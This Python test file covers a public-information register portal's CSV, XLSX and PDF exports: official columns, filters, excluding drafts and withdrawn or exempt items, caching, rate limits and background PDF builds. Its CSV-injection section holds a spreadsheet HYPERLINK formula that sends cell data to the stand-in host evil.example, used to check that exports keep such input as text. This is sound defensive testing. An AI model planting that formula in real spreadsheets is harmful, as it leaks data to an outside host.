"""DIP exports (CSV, XLSX, PDF): the official columns, the page's filters, nothing hidden."""

import csv
import datetime
import io
import re
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from lentera.documents.services import add_document
from lentera.portal import exports
from lentera.register.constants import Category
from lentera.register.dip_table import indonesian_date
from lentera.register.workflow import complete_step, withdraw
from lentera.testing import (
    BIRO_KESRA,
    build_preset_world,
    new_item,
    pdf_upload,
    publish_item,
    walk_item,
)

OFFICIAL_HEADER = [
    "Nomor",
    "Ringkasan isi informasi",
    "Pejabat atau unit yang menguasai informasi",
    "Penanggung jawab pembuatan atau penerbitan informasi",
    "Waktu dan tempat pembuatan informasi",
    "Bentuk informasi yang tersedia",
    "Jangka waktu penyimpanan atau retensi arsip",
    "Kategori",
    "Tahun",
    "Tautan",
]
BODY = "Pemerintah Provinsi Kalimantan Barat"
RENSTRA = "Rencana Strategis Biro Kesra 2025-2029"
BANJIR = "Bantuan Sosial Korban Banjir Sintang"
LKJIP = "Laporan Kinerja Instansi Pemerintah 2023"
ARCHIVE = "Notulen Rapat Koordinasi Kesejahteraan"
DRAFT = "Draf Rencana Kerja Anggaran 2026"
WITHDRAWN = "Jadwal Pelayanan yang Sudah Dicabut"
EXEMPT = "Data Pribadi Penerima Bantuan Sosial"
HIDDEN = (DRAFT, WITHDRAWN, EXEMPT)


def published(world, **fields):
    item = new_item(world, **fields)
    add_document(item, world.officer, pdf_upload(f"{item.pk}.pdf", item.title))
    return publish_item(world, item)


@pytest.fixture
def register(world):
    """Three public items of the world's body in three categories, one documented item of
    another body (files on request), and a draft, a withdrawn and an exempt item."""
    items = {
        "renstra": published(world, title=RENSTRA, year=2025),
        "banjir": published(world, title=BANJIR, category=Category.IMMEDIATE, year=2024),
        "lkjip": published(
            world, title=LKJIP, category=Category.ON_DEMAND, year=2023, form_hardcopy=False
        ),
    }
    draft = new_item(world, title=DRAFT)
    add_document(draft, world.officer, pdf_upload("draft.pdf", DRAFT))
    complete_step(draft, world.officer)
    gone = published(world, title=WITHDRAWN)
    withdraw(gone, world.approver, "Jadwal sudah tidak berlaku.")
    published(world, title=EXEMPT, category=Category.EXEMPT)

    # Seed 002 ends when the soft copy is stored: listed, files available on request.
    other = build_preset_world(BIRO_KESRA, prefix="p-")
    items["archive"] = walk_item(other, new_item(other, title=ARCHIVE, year=2024))
    items["other_body"] = other.body
    return items


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def titles(rows: list[list[str]]) -> list[str]:
    return [row[1].split("\n")[0] for row in rows[1:]]


def today() -> str:
    return timezone.localdate().isoformat()


def test_csv_has_the_official_columns_grouped_by_category(client, register):
    response = client.get(reverse("portal:dip-csv") + "?badan=kalbar")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="dip-kalbar-{today()}.csv"'
    assert "public" in response["Cache-Control"] and "max-age=300" in response["Cache-Control"]
    rows = csv_rows(response)
    assert rows[0] == OFFICIAL_HEADER
    assert titles(rows) == [RENSTRA, BANJIR, LKJIP]  # berkala, serta merta, setiap saat
    renstra = register["renstra"]
    assert rows[1] == [
        "1",
        f"{RENSTRA}\n{renstra.summary}",
        "Biro Kesejahteraan Rakyat",
        "Kepala Biro Kesejahteraan Rakyat",
        "14 Februari 2025, Pontianak",
        "Softcopy (unduh daring); Hardcopy",
        "5 tahun",
        "Berkala",
        "2025",
        f"http://testserver/informasi/{renstra.pk}/",
    ]
    assert rows[3][5] == "Softcopy (unduh daring)"  # no hard copy
    assert [row[7] for row in rows[1:]] == ["Berkala", "Serta merta", "Setiap saat"]


def test_csv_of_every_body_names_the_body_and_says_files_on_request(client, register):
    rows = csv_rows(client.get(reverse("portal:dip-csv")))
    assert sorted(titles(rows)) == sorted([RENSTRA, BANJIR, LKJIP, ARCHIVE])
    archive = next(row for row in rows if row[1].startswith(ARCHIVE))
    assert archive[2] == "Biro Kesejahteraan Rakyat, p-Pemerintah Provinsi Kalimantan Barat"
    assert archive[5] == "Softcopy (tersedia atas permintaan); Hardcopy"


def test_export_headings_stay_indonesian_in_english(client, register):
    response = client.get(reverse("portal:dip-csv"), headers={"accept-language": "en"})
    assert csv_rows(response)[0] == OFFICIAL_HEADER


@pytest.mark.parametrize(
    "query, expected",
    [
        ("?kategori=serta_merta", [BANJIR]),
        ("?tahun=2023", [LKJIP]),
        ("?badan=kalbar&tahun=2024", [BANJIR]),
        ("?unit=biro-kesra&kategori=berkala", [RENSTRA]),
        ("?unit=dinkes", []),
        ("?badan=p-prov-kalbar", [ARCHIVE]),
        ("?kategori=dikecualikan&badan=kalbar", [RENSTRA, BANJIR, LKJIP]),  # ignored
    ],
)
def test_csv_follows_the_register_filters(client, register, query, expected):
    assert titles(csv_rows(client.get(reverse("portal:dip-csv") + query))) == expected


def test_unknown_body_is_not_found(client, register):
    assert client.get(reverse("portal:dip-csv") + "?badan=tidak-ada").status_code == 404


def test_unit_export_is_named_after_the_unit(client, register):
    response = client.get(reverse("portal:dip-csv") + "?unit=biro-kesra&kategori=serta_merta")
    expected = f'attachment; filename="dip-biro-kesra-serta-merta-{today()}.csv"'
    assert response["Content-Disposition"] == expected


def xlsx_sheet(response):
    assert response.status_code == 200
    content = response.content
    return openpyxl.load_workbook(io.BytesIO(content)).active, content


def test_xlsx_has_a_heading_a_bold_header_and_the_same_cells_as_the_csv(client, register):
    response = client.get(reverse("portal:dip-xlsx") + "?badan=kalbar")
    assert response["Content-Disposition"] == f'attachment; filename="dip-kalbar-{today()}.xlsx"'
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "max-age=300" in response["Cache-Control"]
    sheet, _ = xlsx_sheet(response)
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == f"DAFTAR INFORMASI PUBLIK · {BODY}"
    assert indonesian_date(timezone.localdate()) in values[1][0]
    assert values[2] == OFFICIAL_HEADER
    assert all(cell.font.bold for cell in sheet[3])
    assert sheet.freeze_panes == "B4"
    assert sheet.column_dimensions["B"].width == 60
    assert sheet["B4"].alignment.wrap_text
    as_text = [["" if v is None else str(v) for v in row] for row in values[3:]]
    assert as_text == csv_rows(client.get(reverse("portal:dip-csv") + "?badan=kalbar"))[1:]


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text() for page in reader.pages).split())


def test_pdf_is_the_official_table_in_a4_landscape(client, register):
    response = client.get(reverse("portal:dip-pdf") + "?badan=kalbar")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'inline; filename="dip-kalbar-{today()}.pdf"'
    assert "max-age=300" in response["Cache-Control"]
    page = PdfReader(io.BytesIO(response.content)).pages[0]
    assert page.mediabox.width > page.mediabox.height  # landscape
    assert round(float(page.mediabox.width) * 25.4 / 72) == 297  # A4
    text = pdf_text(response.content)
    for expected in ("DAFTAR INFORMASI PUBLIK", BODY, RENSTRA, BANJIR, LKJIP, "Halaman 1 dari 1"):
        assert expected in text
    assert "Ringkasan isi informasi" in text and "Jangka waktu penyimpanan" in text
    assert "Informasi yang wajib diumumkan secara serta merta" in text
    assert ARCHIVE not in text  # another body


def test_pdf_of_a_unit_names_the_unit(client, register):
    response = client.get(reverse("portal:dip-pdf") + "?unit=biro-kesra")
    text = pdf_text(response.content)
    assert BODY in text and "Biro Kesejahteraan Rakyat" in text


@pytest.mark.parametrize("name", ["dip-csv", "dip-xlsx", "dip-pdf"])
def test_no_export_contains_a_draft_a_withdrawn_or_an_exempt_item(client, register, name):
    response = client.get(reverse("portal:" + name))
    assert response.status_code == 200
    if name == "dip-csv":
        text = "\n".join(",".join(row) for row in csv_rows(response))
    elif name == "dip-xlsx":
        sheet, _ = xlsx_sheet(response)
        text = "\n".join(str(c.value) for row in sheet.iter_rows() for c in row)
    else:
        text = pdf_text(response.content)
    assert RENSTRA in text
    for title in HIDDEN:
        assert title not in text


def test_pdf_past_the_limit_asks_to_filter(client, register, monkeypatch):
    monkeypatch.setattr(exports, "PDF_MAX_ROWS", 2)
    response = client.get(
        reverse("portal:dip-pdf") + "?badan=kalbar", headers={"accept-language": "en"}
    )
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "no-cache" in response["Cache-Control"]
    page = response.content.decode()
    assert "This list has 3 entries; a PDF can hold at most 2." in page
    assert "Filter it by unit or by category" in page
    # Filtered down, the same export works; CSV and XLSX have no limit.
    assert client.get(reverse("portal:dip-pdf") + "?unit=biro-kesra&tahun=2025").status_code == 200
    assert client.get(reverse("portal:dip-csv") + "?badan=kalbar").status_code == 200


# LibreOffice: the exports must open in the office suite people actually use.


def soffice(tmp_path, *args: str) -> subprocess.CompletedProcess:
    executable = shutil.which("soffice")
    if executable is None:
        pytest.fail(
            "LibreOffice (soffice) is not installed; scripts/test installs "
            "libreoffice-calc-nogui and libreoffice-draw-nogui"
        )
    profile = tmp_path / "lo-profile"  # a private profile: parallel runs do not clash
    return subprocess.run(
        [executable, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_xlsx_opens_in_libreoffice_with_the_same_cells(client, register, tmp_path):
    _, content = xlsx_sheet(client.get(reverse("portal:dip-xlsx")))
    source = tmp_path / "dip.xlsx"
    source.write_bytes(content)
    out = tmp_path / "out"
    # Comma-separated, double quotes, UTF-8 (76).
    done = soffice(
        tmp_path,
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76",
        "--outdir",
        str(out),
        str(source),
    )
    assert done.returncode == 0, done.stderr
    converted = (out / "dip.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(converted)))
    assert rows[0][0] == "DAFTAR INFORMASI PUBLIK"
    exported = csv_rows(client.get(reverse("portal:dip-csv")))
    assert [row[: len(OFFICIAL_HEADER)] for row in rows[2:]] == exported


def test_pdf_opens_in_libreoffice_draw(client, register, tmp_path):
    response = client.get(reverse("portal:dip-pdf") + "?badan=kalbar")
    source = tmp_path / "dip.pdf"
    source.write_bytes(response.content)
    out = tmp_path / "out"
    done = soffice(
        tmp_path,
        "--infilter=draw_pdf_import",
        "--convert-to",
        "odg",
        "--outdir",
        str(out),
        str(source),
    )
    assert done.returncode == 0, done.stderr
    drawing = out / "dip.odg"
    assert drawing.exists(), done.stdout + done.stderr
    with zipfile.ZipFile(drawing) as odg:
        content = odg.read("content.xml").decode("utf-8")
    text = re.sub(r"<[^>]+>", "", content)
    assert "DAFTAR INFORMASI PUBLIK" in text
    assert BODY in text


# Formula injection (OWASP "CSV injection"): an officer's text stays text.

ATTACKS = {
    "title": '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "responsible_official": "+62 812 0000 0000",
    "retention_period": "@SUM(1+1)",
    "summary": "-1+2",
}


def test_text_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(client, world, tmp_path):
    published(world, **ATTACKS)
    rows = csv_rows(client.get(reverse("portal:dip-csv")))
    row = rows[1]
    assert row[1] == "'" + ATTACKS["title"] + "\n" + ATTACKS["summary"]
    assert row[3] == "'" + ATTACKS["responsible_official"]
    assert row[6] == "'" + ATTACKS["retention_period"]

    sheet, content = xlsx_sheet(client.get(reverse("portal:dip-xlsx")))
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    values = {cell.value for cell in cells}
    assert ATTACKS["title"] + "\n" + ATTACKS["summary"] in values
    assert ATTACKS["retention_period"] in values

    # LibreOffice, as an officer would open it: the text, never the formula's result.
    source = tmp_path / "dip.xlsx"
    source.write_bytes(content)
    out = tmp_path / "out"
    done = soffice(
        tmp_path, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir",
        str(out), str(source),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    opened = list(csv.reader(io.StringIO((out / "dip.csv").read_text(encoding="utf-8"))))
    assert opened[3][1] == ATTACKS["title"] + "\n" + ATTACKS["summary"]
    assert opened[3][3] == ATTACKS["responsible_official"]
    assert opened[3][6] == ATTACKS["retention_period"]  # not 2


# Built once per register state: cached, conditional, invalidated by any change.


def test_pdf_and_xlsx_are_built_once_per_register_state(client, world, register, monkeypatch):
    builds = []
    real = exports.dip_table.render_pdf
    monkeypatch.setattr(
        exports.dip_table, "render_pdf", lambda *a, **k: builds.append(1) or real(*a, **k)
    )
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    first = client.get(url)
    second = client.get(url)
    assert first.status_code == second.status_code == 200
    assert first.content == second.content and len(builds) == 1
    assert first["ETag"] == second["ETag"] and first["Last-Modified"]
    # A client that has it gets 304 without a body.
    again = client.get(url, headers={"if-none-match": first["ETag"]})
    assert again.status_code == 304 and again.content == b""
    # Another filter is another export.
    client.get(reverse("portal:dip-pdf") + "?unit=biro-kesra")
    assert len(builds) == 2

    # A publication changes the register: the next answer is new and shows it.
    published(world, title="Laporan Penyelenggaraan Pemerintahan Daerah 2025")
    fresh = client.get(url)
    assert len(builds) == 3 and fresh["ETag"] != first["ETag"]
    assert "Penyelenggaraan Pemerintahan Daerah" in pdf_text(fresh.content)
    assert client.get(url, headers={"if-none-match": first["ETag"]}).status_code == 200
    # A withdrawal too.
    withdraw(register["renstra"], world.approver, "Diganti dokumen baru.")
    assert RENSTRA not in pdf_text(client.get(url).content)


def test_building_exports_is_limited_per_address(client, register, monkeypatch):
    monkeypatch.setattr(exports, "BUILD_LIMIT", 2)
    years = ["2023", "2024", "2025"]
    statuses = [
        client.get(reverse("portal:dip-xlsx") + f"?tahun={year}", REMOTE_ADDR="203.0.113.4")
        for year in years
    ]
    assert [r.status_code for r in statuses] == [200, 200, 429]
    assert statuses[2]["Retry-After"] == str(exports.BUILD_WINDOW)
    # What is built is served to anyone, the busy address included.
    cached = client.get(reverse("portal:dip-xlsx") + "?tahun=2023", REMOTE_ADDR="203.0.113.4")
    assert cached.status_code == 200
    other = client.get(reverse("portal:dip-xlsx") + "?tahun=2025", REMOTE_ADDR="192.0.2.7")
    assert other.status_code == 200


# Longer PDFs: built by the worker, once per register state, never a stale one.


def made_by_the_worker(client, run_worker, url: str):
    """Ask for a long PDF (202: being prepared), let the worker build it, ask again."""
    assert client.get(url).status_code == 202
    run_worker()
    made = client.get(url)
    assert made.status_code == 200 and made["Content-Type"] == "application/pdf"
    return made


def pdf_builds():
    from django_tasks_db.models import DBTaskResult

    return DBTaskResult.objects.filter(task_path="lentera.portal.tasks.build_dip_pdf")


@pytest.mark.django_db(transaction=True)
def test_a_longer_pdf_is_built_by_the_worker_and_then_served(
    client, register, run_worker, monkeypatch
):
    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 2)
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    assert client.head(url).status_code == 202 and not pdf_builds().exists()  # a link checker
    waiting = client.get(url)
    assert waiting.status_code == 202
    assert "no-cache" in waiting["Cache-Control"] and waiting["Retry-After"] == "60"
    page = waiting.content.decode()
    assert "Daftar ini berisi 3 entri" in page and "sedang disiapkan" in page
    assert reverse("portal:dip-csv") + "?badan=kalbar" in page
    # Asking again while it is queued queues nothing more.
    assert client.get(url).status_code == 202
    assert pdf_builds().count() == 1

    run_worker()
    made = client.get(url)
    assert made.status_code == 200 and made["Content-Type"] == "application/pdf"
    text = pdf_text(made.content)
    assert RENSTRA in text and BODY in text
    for title in HIDDEN:
        assert title not in text
    assert client.get(url).content == made.content and pdf_builds().count() == 1
    # A short selection is still made at once.
    assert client.get(reverse("portal:dip-pdf") + "?unit=biro-kesra&tahun=2025").status_code == 200


@pytest.mark.django_db(transaction=True)
def test_a_pdf_queued_before_a_withdrawal_never_shows_the_withdrawn_item(
    client, world, register, run_worker, monkeypatch
):
    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 1)
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    assert client.get(url).status_code == 202  # queued for the register as it is
    withdraw(register["renstra"], world.approver, "Diganti dokumen baru.")
    run_worker()  # builds the register as it is when it runs
    made = client.get(url)
    assert made.status_code == 200
    text = pdf_text(made.content)
    assert RENSTRA not in text and BANJIR in text


@pytest.mark.django_db(transaction=True)
def test_a_pdf_built_before_a_withdrawal_is_never_served_after_it(
    client, world, register, run_worker, monkeypatch
):
    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 1)
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    assert RENSTRA in pdf_text(made_by_the_worker(client, run_worker, url).content)
    withdraw(register["renstra"], world.approver, "Diganti dokumen baru.")
    # The kept one is of an older register: it is prepared again.
    assert RENSTRA not in pdf_text(made_by_the_worker(client, run_worker, url).content)
    assert [r.return_value for r in pdf_builds().order_by("enqueued_at")] == ["built", "built"]


@pytest.mark.django_db(transaction=True)
def test_officers_drafts_do_not_make_a_long_pdf_again_but_a_publication_does(
    client, world, register, run_worker, monkeypatch
):
    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 1)
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    made = made_by_the_worker(client, run_worker, url)
    # A busy office: drafts recorded and edited, none of them public.
    new_item(world, title="Draf Laporan Triwulan")
    new_item(world, title="Draf Rencana Kerja")
    kept = client.get(url)
    assert kept.status_code == 200 and kept.content == made.content
    assert pdf_builds().count() == 1
    published(world, title="Laporan Penyelenggaraan Pemerintahan Daerah 2025")
    fresh = made_by_the_worker(client, run_worker, url)  # what it shows changed: a new one
    assert "Penyelenggaraan Pemerintahan Daerah" in pdf_text(fresh.content)


@pytest.mark.django_db(transaction=True)
def test_a_background_pdf_that_fails_is_a_503_for_a_while(
    client, register, run_worker, monkeypatch
):
    from lentera import pdf

    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 1)
    monkeypatch.setattr(pdf, "BACKGROUND_TIMEOUT_SECONDS", 0.01)
    url = reverse("portal:dip-pdf") + "?badan=kalbar"
    assert client.get(url).status_code == 202
    run_worker()
    failed = client.get(url)
    assert failed.status_code == 503 and "no-cache" in failed["Cache-Control"]
    assert failed["Retry-After"] == "300"
    assert "PDF tidak dapat dibuat" in failed.content.decode()
    assert pdf_builds().count() == 1  # not queued again at once


def test_a_pdf_past_ten_thousand_rows_points_to_csv_and_xlsx(client, register, monkeypatch):
    monkeypatch.setattr(exports, "PDF_MAX_ROWS", 2)
    page = client.get(reverse("portal:dip-pdf") + "?badan=kalbar").content.decode()
    assert "paling banyak memuat 2" in page
    assert reverse("portal:dip-xlsx") + "?badan=kalbar" in page


@pytest.mark.django_db(transaction=True)
def test_many_addresses_asking_for_many_long_pdfs_cannot_flood_the_worker(
    client, register, run_worker, monkeypatch
):
    from lentera.portal import tasks

    monkeypatch.setattr(exports, "PDF_NOW_ROWS", 0)
    asks = [
        ("?badan=kalbar", "203.0.113.1"),
        ("?unit=biro-kesra", "203.0.113.2"),
        ("?tahun=2025", "203.0.113.3"),
        ("?kategori=berkala", "203.0.113.4"),
        ("?badan=kalbar&tahun=2025", "203.0.113.5"),
    ]
    statuses = [
        client.get(reverse("portal:dip-pdf") + query, REMOTE_ADDR=address).status_code
        for query, address in asks
    ]
    assert statuses == [202, 202, 202, 503, 503]
    assert pdf_builds().count() == tasks.QUEUE_LIMIT == 3
    busy = client.get(reverse("portal:dip-pdf") + "?kategori=berkala")
    assert busy["Retry-After"] == "300" and "PDF" in busy.content.decode()
    # A build left "running" by a worker killed an hour ago no longer counts.
    two_hours_ago = timezone.now() - datetime.timedelta(hours=2)
    pdf_builds().update(status="RUNNING", enqueued_at=two_hours_ago)
    assert client.get(reverse("portal:dip-pdf") + "?kategori=berkala").status_code == 202
    pdf_builds().filter(status="RUNNING").delete()
    run_worker()  # once they are done, the next ones are taken
    assert client.get(reverse("portal:dip-pdf") + "?badan=kalbar&tahun=2025").status_code == 202
